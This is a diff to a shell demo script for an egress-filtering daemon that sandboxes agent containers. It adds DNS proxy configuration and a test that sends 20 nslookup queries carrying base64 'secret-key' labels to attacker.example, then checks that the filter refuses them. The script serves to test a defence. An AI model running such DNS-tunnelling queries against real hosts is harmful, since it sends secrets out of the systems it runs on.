@@ -56,11 +56,15 @@ target/release/examples/fake_dns --listen "$SUBNET.1:53" --records "$WORK/record
 echo $! > "$WORK/dns.pid"
 for _ in $(seq 50); do grep -q ready "$WORK/dns.out" 2>/dev/null && break; sleep 0.1; done
 
+# proxy mode (the default): egressd answers the containers' DNS. The fake API servers sit on
+# a private network, so the rebinding guard must be told that answers may point there.
 cat > "$WORK/config.toml" <<EOF
 profile_dirs = ["$PWD/profiles"]
 [dns]
+mode = "proxy"
 upstreams = ["$SUBNET.1:53"]
 min_ttl = 5
+rebind_allow = ["$SUBNET.0/24"]
 [control]
 socket = "$WORK/egressd.sock"
 EOF
@@ -80,15 +84,18 @@ for _ in $(seq 100); do
 done
 sleep 0.5
 
-# attempt CONTAINER NAME PORT: resolve NAME through the container's own DNS, then connect.
+# attempt CONTAINER NAME PORT: resolve NAME through the container's own DNS (answered by
+# egressd's proxy), then connect. A refused name is tried by its address anyway, as malware
+# with a hard-coded address would.
 attempt() {
-  local c=$1 name=$2 port=$3 ip
-  ip=$(docker exec "$c" nslookup "$name" 2>/dev/null | awk '/^Address/ && !/#|:53/ {print $2}' | tail -n1)
-  [ -n "$ip" ] || ip=$(awk -v n="$name" '$1==n {print $3}' "$WORK/records")
+  local c=$1 name=$2 port=$3 ip dns
+  ip=$(docker exec "$c" nslookup "$name" 2>/dev/null | sed -n 's/^Address: //p' | tail -n1 || true)
+  if [ -n "$ip" ]; then dns="dns: answered"; else
+    dns="dns: REFUSED"; ip=$(awk -v n="$name" '$1==n {print $3}' "$WORK/records"); fi
   if docker exec "$c" sh -c "printf 'GET / HTTP/1.0\r\n\r\n' | nc -w 2 $ip $port" 2>/dev/null | grep -q hello; then
-    printf '  %-13s -> %-22s %-15s ALLOWED\n' "$c" "$name:$port" "($ip)"
+    printf '  %-13s -> %-22s %-15s %-14s ALLOWED\n' "$c" "$name:$port" "($ip)" "$dns"
   else
-    printf '  %-13s -> %-22s %-15s DENIED\n' "$c" "$name:$port" "($ip)"
+    printf '  %-13s -> %-22s %-15s %-14s DENIED\n' "$c" "$name:$port" "($ip)" "$dns"
   fi
 }
 
@@ -100,11 +107,16 @@ attempt agent-openai attacker.example 443
 attempt agent-none api.openai.com 443
 attempt agent-none attacker.example 443
 echo
+echo "== DNS tunnelling attempt: 20 queries carrying data to attacker.example"
+refused=$(docker exec agent-openai sh -c 'for i in $(seq 20); do nslookup "c2VjcmV0LWtleS0$i.attacker.example" 2>&1; done' | grep REFUSED | sort -u | wc -l || true)
+reached=$(grep -c 'c2VjcmV0' "$WORK/dns.log" || true)
+echo "  names refused inside the container: $refused of 20; queries that reached the upstream DNS: $reached"
+echo
 echo "== egressd status"
 "$BIN" status --socket "$WORK/egressd.sock"
 echo
 echo "== the table in agent-openai's network namespace"
-nsenter -t "$(docker inspect -f '{{.State.Pid}}' agent-openai)" -n nft list table inet egressd | sed -n '1,30p'
+nsenter -t "$(docker inspect -f '{{.State.Pid}}' agent-openai)" -n nft list table inet egressd | sed -e '/^	*$/d'
 if [ "${EGRESSD_DEMO_KEEP:-}" = 1 ]; then
   echo
   log "left running (EGRESSD_DEMO_KEEP=1): try '$BIN status --socket $WORK/egressd.sock'; stop with: $0 --cleanup"
